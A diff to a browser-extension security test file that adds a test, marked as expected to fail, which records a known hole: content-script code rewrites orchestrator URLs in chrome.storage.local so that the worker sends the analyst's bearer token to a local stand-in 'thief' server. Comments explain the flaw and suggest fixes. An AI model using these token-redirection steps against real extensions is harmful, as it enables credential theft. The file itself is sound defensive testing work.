@@ -1,5 +1,7 @@
 import { spawnSync } from 'node:child_process';
 import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { CDPSession, Page } from 'playwright-core';
@@ -202,7 +204,7 @@ describe("code in the content script's isolated world", () => {
       contextId,
       `(async () => {
         // Control: the content channel itself works from here, so the refusals below are about privilege.
-        const control = await chrome.runtime.sendMessage({ type: 'config.get' });
+        const control = await chrome.runtime.sendMessage({ type: 'jobs.forRow', console: location.origin, rowKey: 'log-1' });
         const out = [control];
         for (const request of ${JSON.stringify(requests)}) {
           out.push(await chrome.runtime.sendMessage(request).catch((error) => ({ thrown: String(error) })));
@@ -212,7 +214,7 @@ describe("code in the content script's isolated world", () => {
     );
     await cdp.detach();
     const [control, ...refusals] = replies;
-    expect(control).toMatchObject({ ok: true });
+    expect(control, JSON.stringify(control)).toMatchObject({ ok: true });
     refusals.forEach((reply, index) => {
       expect(reply, requests[index]!.type).toMatchObject({ ok: false });
       expect(JSON.stringify(reply)).not.toContain(analystToken);
@@ -297,5 +299,69 @@ describe("the console page's own scripts", () => {
     const fresh = runsAfter.filter((run) => !runsBefore.some((old) => old.id === run.id));
     expect(fresh).toHaveLength(1);
     expect(JSON.stringify(runsAfter)).not.toContain(FORGED_IP);
+  });
+});
+
+describe("the content script's isolated world, writing storage", () => {
+  // HOLE (src/background/settings-store.ts + orchestrators.ts): settings live in chrome.storage.local, which
+  // content scripts may WRITE, and the worker trusts the orchestrator URL found there: the secret is keyed by
+  // entry id, not bound to the origin it was saved for, and restricted-fetch allows whatever origin the
+  // settings name. Code running in the content script's world (a bug there, or a hostile console exploiting
+  // one) can repoint the entry and have the worker send the bearer token to its own server on the next run.
+  // Fix: keep settings (or at least orchestrator URLs) where content scripts cannot write (the extension's
+  // IndexedDB, or storage.local.setAccessLevel TRUSTED_CONTEXTS where supported), and/or store each secret
+  // with the origin it belongs to and refuse to send it anywhere else.
+  it.fails('cannot repoint the orchestrator and receive the bearer token', async () => {
+    const seen: string[] = [];
+    const thief = createServer((request, response) => {
+      seen.push(String(request.headers.authorization ?? ''));
+      response.writeHead(200, {
+        'access-control-allow-origin': '*',
+        'access-control-allow-headers': '*',
+        'content-type': 'application/json',
+      });
+      response.end('{}');
+    });
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+    const thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
+    const { cdp, contextId } = await gridsideIsolatedWorld(page);
+    const original = await evaluateIn<string>(
+      cdp,
+      contextId,
+      'chrome.storage.local.get(null).then(JSON.stringify)',
+    );
+    try {
+      await evaluateIn(
+        cdp,
+        contextId,
+        `(async () => {
+          const { settings } = await chrome.storage.local.get('settings');
+          for (const entry of settings.orchestrators) entry.url = ${JSON.stringify(thiefUrl)};
+          await chrome.storage.local.set({ settings });
+          const context = {
+            console: location.origin, kind: 'log',
+            key: { value: 'log-1', source: 'column', confidence: 'high' },
+            fields: { SIP: '10.0.0.1' }, labels: {}, missing: [], truncated: [],
+          };
+          await chrome.runtime.sendMessage({ type: 'catalog.list', context }).catch(() => undefined);
+          await chrome.runtime.sendMessage({
+            type: 'run.start', actionId: 'gridside-demo-echo-row/echo-row-fields', params: {}, context,
+          }).catch(() => undefined);
+        })()`,
+      );
+      const deadline = Date.now() + 5000;
+      while (Date.now() < deadline && !seen.some((header) => header.includes(analystToken))) {
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      expect(seen.join('\n')).not.toContain(analystToken);
+    } finally {
+      await evaluateIn(
+        cdp,
+        contextId,
+        `chrome.storage.local.clear().then(() => chrome.storage.local.set(${original}))`,
+      );
+      await cdp.detach();
+      thief.close();
+    }
   });
 });
